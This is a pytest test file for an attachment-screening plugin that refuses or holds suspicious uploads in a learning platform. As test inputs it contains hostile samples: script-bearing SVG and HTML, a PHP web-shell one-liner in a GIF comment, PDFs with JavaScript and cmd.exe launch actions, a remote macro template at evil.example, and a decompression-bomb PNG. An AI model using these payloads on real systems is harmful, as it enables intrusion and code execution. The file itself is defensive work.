"""What is refused, what is held, what passes, and what whoever attaches it reads."""

import inspect
import io
import re
import zipfile
import zlib
from dataclasses import fields
from pathlib import Path
from typing import Any

import pytest
import segno
from babel.messages.extract import extract_from_dir
from babel.messages.pofile import read_po
from PIL import Image

import lmssocial_attachments
from lmssocial.plugin import HOOK_API, Attachment, Concern, Ruling, Verdict
from lmssocial_attachments import (
    clamd,
    codes,
    disguises,
    kinds,
    lmssocial_screen_attachment,
    manifest,
    settings,
)
from lmssocial_attachments.settings import PDF, PICTURES, FileRules, FileRulesForm

MODULES = (lmssocial_attachments, clamd, codes, disguises, kinds, settings)


@pytest.fixture(autouse=True)
def without_scanner(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv(clamd.ADDRESS, raising=False)


def judged(
    data: bytes, name: str = "photo.png", rules: FileRules | None = None, *, role: str = "learner"
) -> Verdict | None:
    """What the policy makes of a file."""
    file = Attachment(
        tenant_id=1, community_id=1, author_id=1, author_role=role, name=name, declared_type="", data=data
    )
    verdict: Verdict | None = lmssocial_screen_attachment(file, rules or FileRules())
    return verdict


def is_refused(verdict: Verdict | None, reason: str) -> bool:
    """Whether the file is refused in every tier, for this reason."""
    return verdict is not None and (verdict.ruling, verdict.concern, verdict.reason) == (
        Ruling.REJECT,
        Concern.SAFETY,
        reason,
    )


def is_held(verdict: Verdict | None, reason: str) -> bool:
    """Whether a person has to look, for this reason."""
    return verdict is not None and (verdict.ruling, verdict.concern, verdict.reason) == (
        Ruling.HOLD,
        Concern.ATTACHMENT,
        reason,
    )


def picture(size: tuple[int, int] = (300, 200)) -> Image.Image:
    """An innocent picture."""
    image = Image.new("RGB", size, "white")
    for x in range(0, size[0], 7):
        image.putpixel((x, x % size[1]), (9, 90, 200))
    return image


def written(image: Image.Image, form: str = "PNG", **options: Any) -> bytes:
    """An image as a file."""
    out = io.BytesIO()
    image.save(out, form, **options)
    return out.getvalue()


def with_code(text: str, *, micro: bool | None = False, **options: Any) -> Image.Image:
    """A QR code on white."""
    out = io.BytesIO()
    segno.make(text, micro=micro).save(out, kind="png", scale=6, **options)
    with Image.open(out) as image:
        image.load()
        return image.copy()


def packed(members: dict[str, bytes]) -> bytes:
    """A ZIP archive."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def word(**parts: bytes) -> bytes:
    """A Word document with further parts."""
    return packed({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w/>"} | parts)


def pdf(*objects: bytes) -> bytes:
    """A PDF with these objects."""
    numbered = (b"%d 0 obj\n%s\nendobj\n" % (number, one) for number, one in enumerate(objects, 1))
    return b"%PDF-1.7\n" + b"".join(numbered) + b"trailer\n<< /Root 1 0 R >>\n%%EOF\n"


def object_stream(text: bytes, kind: bytes = b"/ObjStm") -> bytes:
    """Objects packed into a stream, as most programs write them today."""
    body = zlib.compress(text)
    return b"<< /Type %s /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream" % (kind, len(body), body)


HONEST = {
    "photo.png": written(picture()),
    "photo.jpg": written(picture(), "JPEG"),
    "photo.JPEG": written(picture(), "JPEG"),
    "photo.gif": written(picture(), "GIF"),
    "photo.webp": written(picture(), "WEBP"),
    "plan.pdf": pdf(b"<< /Type /Catalog >>", object_stream(b"<< /Type /Page >>")),
    "notes.txt": b"Read /JavaScript and <script> for tomorrow.\n",
    "notes.md": "# Grüße".encode(),
    "numbers.csv": b"a;b\n1;2\n",
    "essay.docx": word(),
    "essay.final.v2.docx": word(),
    "essay.odt": packed({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<x/>"}),
}


@pytest.mark.parametrize("name", HONEST)
def test_an_honest_file_is_no_concern(name: str) -> None:
    assert judged(HONEST[name], name) is None


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("photo.png", b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"),
        ("photo.png", b"<!doctype html><script>alert(1)</script>"),
        ("photo.png", b"MZ\x90\x00" + b"\0" * 500),
        ("photo.jpg", HONEST["plan.pdf"]),
        ("plan.pdf", HONEST["photo.png"]),
        ("plan.pdf", packed({"setup.exe": b"MZ"})),
        ("essay.docx", HONEST["notes.txt"]),
        ("notes.txt", b"MZ\x90\x00\x03 words"),
        ("notes.txt", b"\x7fELF words"),
        ("notes.txt", HONEST["photo.gif"]),
        ("notes.txt", packed({"setup.exe": b"MZ"})),
    ],
)
def test_a_file_that_is_not_what_its_name_says_is_refused(name: str, data: bytes) -> None:
    assert is_refused(judged(data, name), "forged-type")


@pytest.mark.parametrize(
    "name", ["setup.exe", "page.html", "logo.svg", "all.zip", "README", "macro.docm", "old.doc"]
)
def test_a_kind_that_nobody_takes_is_refused(name: str) -> None:
    assert is_refused(judged(b"anything", name), "kind")


def test_an_institution_may_take_fewer_kinds_and_says_which() -> None:
    only = FileRules(kinds=(PICTURES, PDF), rule="Pictures and PDF, please.")
    assert judged(HONEST["photo.png"], "photo.png", only) is None
    verdict = judged(HONEST["essay.docx"], "essay.docx", only)

    assert is_refused(verdict, "kind")
    assert verdict is not None
    assert verdict.suggestion == "You can attach: Pictures (PNG, JPEG, GIF, WebP), PDF."
    assert verdict.rule == "Pictures and PDF, please."
    nothing = judged(HONEST["photo.png"], "photo.png", FileRules(kinds=()))
    assert nothing is not None
    assert not nothing.suggestion


@pytest.mark.parametrize("name", ["photo.png", "photo.jpg", "photo.gif", "photo.webp", "plan.pdf"])
@pytest.mark.parametrize(
    "second",
    [
        packed({"setup.exe": b"MZ"}),
        b"Rar!\x1a\x07\x01\x00 archive",
        b"7z\xbc\xaf\x27\x1c archive",
        b"MZ\x90 ... This program cannot be run in DOS mode.",
    ],
)
def test_something_appended_to_a_picture_or_a_pdf_is_found(name: str, second: bytes) -> None:
    assert is_refused(judged(HONEST[name] + second, name), "polyglot")


def test_pages_and_pdfs_inside_of_pictures_are_found() -> None:
    comment = written(picture(), "JPEG", comment=b"<script>alert(document.domain)</script>")
    php = written(picture(), "GIF", comment=b"<?php system($_GET[0]); ?>")
    header = written(picture(), "JPEG", comment=b"%PDF-1.7 1 0 obj")

    assert is_refused(judged(comment, "photo.jpg"), "polyglot")
    assert is_refused(judged(php, "photo.gif"), "polyglot")
    assert is_refused(judged(header, "photo.jpg"), "polyglot")


@pytest.mark.parametrize(
    "data",
    [
        pdf(b"<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>"),
        pdf(b"<< /S /J#61vaScript /#4aS (x) >>"),
        pdf(b"<< /S /Launch /F (cmd.exe) >>"),
        pdf(b"<< /AcroForm << /XFA 5 0 R >> >>"),
        pdf(b"<< /Subtype /RichMedia >>"),
        pdf(object_stream(b"7 0 << /S /JavaScript /JS 8 0 R >>")),
        pdf(object_stream(b"7 0 << /S /JavaScript /JS 8 0 R >>", b"/Obj#53tm")),
        pdf(b"<< /Length 4 >>\nstream\nxxxx\nendstream", b"<< /JS (x) >>"),
    ],
)
def test_a_pdf_that_runs_something_is_refused(data: bytes) -> None:
    assert is_refused(judged(data, "plan.pdf"), "active-pdf")


def test_chance_in_a_picture_within_a_pdf_is_no_script() -> None:
    stream = b"<< /Subtype /Image /Length 20 >>\nstream\n\x01/JS \x02/JavaScript >>\nendstream"
    names = b"<< /BaseFont /JSABCD+Serif /F1 /JSX >>"

    assert judged(pdf(stream, names), "plan.pdf") is None


def test_a_pdf_that_nobody_can_look_into_or_that_carries_files_is_held() -> None:
    assert is_held(judged(pdf(b"<<>>") + b"trailer << /Encrypt 9 0 R >>", "plan.pdf"), "locked-pdf")
    assert is_held(judged(pdf(b"<< /Names << /EmbeddedFiles 4 0 R >> >>"), "plan.pdf"), "files-in-pdf")


@pytest.mark.parametrize(
    "data",
    [
        word(**{"word/vbaProject.bin": b"x"}),
        word(**{"word/VBAPROJECT.BIN": b"x"}),
        word(**{"word/activeX/activeX1.xml": b"x"}),
        packed(
            {"[Content_Types].xml": b"application/vnd.ms-word.document.macroEnabled.main+xml", "word/x": b""}
        ),
        word(
            **{
                "word/_rels/settings.xml.rels": b'<Relationship Type="http://x/attachedTemplate" '
                b'Target="https://evil.example/x.dotm" TargetMode="External"/>'
            }
        ),
        packed({"mimetype": b"application/vnd.oasis.opendocument.text", "Basic/Standard/Module1.xml": b"x"}),
    ],
)
def test_a_document_with_macros_is_refused(data: bytes) -> None:
    assert is_refused(judged(data, "essay.docx"), "macros")


def test_a_document_that_is_broken_is_refused() -> None:
    assert is_refused(judged(b"PK\x03\x04 broken", "essay.docx"), "broken-document")


@pytest.mark.parametrize("name", ["invoice.exe.pdf", "photo.html.png", "song.SCR .pdf"])
def test_a_name_that_hides_a_program_is_held(name: str) -> None:
    data = HONEST["photo.png"] if name.endswith("png") else HONEST["plan.pdf"]
    assert is_held(judged(data, name), "double-extension")


def test_a_code_that_leads_somewhere_is_held_with_where_it_leads() -> None:
    verdict = judged(written(with_code("https://evil.example/login?x=1")))

    assert is_held(verdict, "code")
    assert verdict is not None
    assert "https://evil.example/login?x=1" in verdict.message
    assert "leave the code out" in verdict.suggestion


def photographed(text: str) -> Image.Image:
    """A code as somebody takes a picture of it: small, askew, on grey."""
    code = with_code(text).convert("RGB").rotate(11, expand=True, fillcolor="white")
    ground = Image.new("RGB", (1600, 1200), (190, 185, 170))
    ground.paste(code, (700, 400))
    return ground


def on_nothing(text: str) -> Image.Image:
    """A black code on a transparent ground, which is black where nobody looks."""
    code = with_code(text).convert("L")
    ink = Image.new("RGBA", code.size, (0, 0, 0, 255))
    ink.putalpha(code.point(lambda value: 255 - value))
    return ink


@pytest.mark.parametrize(
    "data",
    [
        written(photographed("https://evil.example/"), "JPEG", quality=60),
        written(on_nothing("https://evil.example/")),
        written(with_code("https://evil.example/", dark="white", light="black")),
        written(with_code("HTTPS://EVIL.EXAMPLE/")),
        written(with_code("evil.example/x")),
        written(with_code("WIFI:T:WPA;S:Free;P:secret;;")),
        written(with_code("tel:+491701234567")),
        written(with_code("javascript:alert(1)")),
        written(with_code("https://evil.example/").convert("P"), "GIF"),
        written(with_code("https://evil.example/").convert("RGB"), "WEBP", lossless=True),
        written(
            picture(size=(300, 300)),
            "GIF",
            save_all=True,
            append_images=[with_code("https://evil.example/").convert("RGB").resize((300, 300))],
            duration=50,
        ),
    ],
)
def test_codes_are_found_however_they_are_drawn(data: bytes) -> None:
    with Image.open(io.BytesIO(data)) as image:
        name = f"photo.{(image.format or '').lower()}"
    assert is_held(judged(data, name), "code")


@pytest.mark.parametrize("text", ["Room 12, row 3", "42", "Hello, world. Fine", "a: b"])
def test_a_code_that_only_says_something_passes(text: str) -> None:
    assert judged(written(with_code(text))) is None


def test_codes_may_lead_to_hosts_that_are_allowed_and_below_them_but_not_beside_them() -> None:
    rules = FileRules(hosts=("Example.edu", "maps.example"))
    for good in (
        "https://example.edu/x",
        "http://www.example.edu",
        "example.edu/x",
        "https://maps.example:8443/",
    ):
        assert judged(written(with_code(good)), rules=rules) is None, good
    for bad in (
        "https://evil-example.edu/",
        "https://example.edu.evil.example/",
        "https://example.edu@evil.example/",
        "ftp://example.edu/",
        "tel:+49",
    ):
        assert is_held(judged(written(with_code(bad)), rules=rules), "code"), bad


def test_reading_codes_can_be_switched_off() -> None:
    assert judged(written(with_code("https://evil.example/")), rules=FileRules(codes=False)) is None


def test_a_picture_that_cannot_be_unpacked_is_held_and_a_bomb_is_not_unpacked() -> None:
    broken = HONEST["photo.png"][:-60]
    bomb = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x7f\xff\x00\x00\x7f\xff\x08\x00\x00\x00\x00"
    bomb += zlib.crc32(bomb[12:]).to_bytes(4) + b"\0\0\0\0IEND\xaeB`\x82"

    assert is_held(judged(broken), "unreadable-picture")
    assert is_held(judged(bomb), "unreadable-picture")


def test_people_who_are_trusted_are_not_held_but_still_refused() -> None:
    assert judged(written(with_code("https://evil.example/")), role="instructor") is None
    assert is_refused(judged(HONEST["plan.pdf"], "photo.png", role="instructor"), "forged-type")


def test_the_settings_and_the_form_agree() -> None:
    in_form = {name for name in dir(FileRulesForm) if hasattr(getattr(FileRulesForm, name), "_formfield")}

    assert manifest.settings is FileRules
    assert manifest.settings_form is FileRulesForm
    assert manifest.api[0] == HOOK_API[0]
    assert in_form == {setting.name for setting in fields(FileRules)}


def test_the_address_of_the_scanner_is_no_setting_of_a_course() -> None:
    assert not [
        setting.name for setting in fields(FileRules) if re.search("clam|address|scanner", setting.name)
    ]


def test_it_knows_nothing_of_ours_but_what_plugins_may_import() -> None:
    used = {
        name
        for module in MODULES
        for name in re.findall(r"^(?:from|import) (lmssocial\S*)", inspect.getsource(module), re.MULTILINE)
        if not name.startswith("lmssocial_attachments")
    }

    assert used == {"lmssocial.plugin"}


@pytest.mark.parametrize("language", ["ar", "de"])
def test_every_sentence_is_translated(language: str) -> None:
    package = Path(lmssocial_attachments.__file__).parent
    keywords = {"_": None, "_l": None, "lazy_gettext": None}
    said = {message for *_, message, _, _ in extract_from_dir(package, keywords=keywords)}
    with (package / "translations" / language / "LC_MESSAGES" / "messages.po").open("rb") as file:
        catalogue = read_po(file, locale=language)
    translated = {entry.id: entry.string for entry in catalogue if entry.id}

    assert translated.keys() == said
    for sentence, words in translated.items():
        assert words
        assert set(re.findall(r"%\(\w+\)\w", str(sentence))) == set(re.findall(r"%\(\w+\)\w", str(words)))
